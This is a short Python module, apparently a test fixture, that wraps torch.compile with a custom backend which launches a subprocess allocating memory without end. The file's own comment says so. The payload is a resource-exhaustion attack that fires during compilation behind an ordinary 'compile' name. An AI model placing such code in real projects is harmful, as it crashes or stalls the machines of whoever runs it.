# A compiler whose helper allocates without end.
import subprocess
import sys

import torch

_GREEDY = "kept = []\nwhile True: kept.append(bytearray(b'x') * (1 << 25))"


def compile(fn, **options):
    def backend(graph, inputs):
        subprocess.run([sys.executable, "-c", _GREEDY], check=False)
        return graph

    return torch.compile(fn, backend=backend, **options)
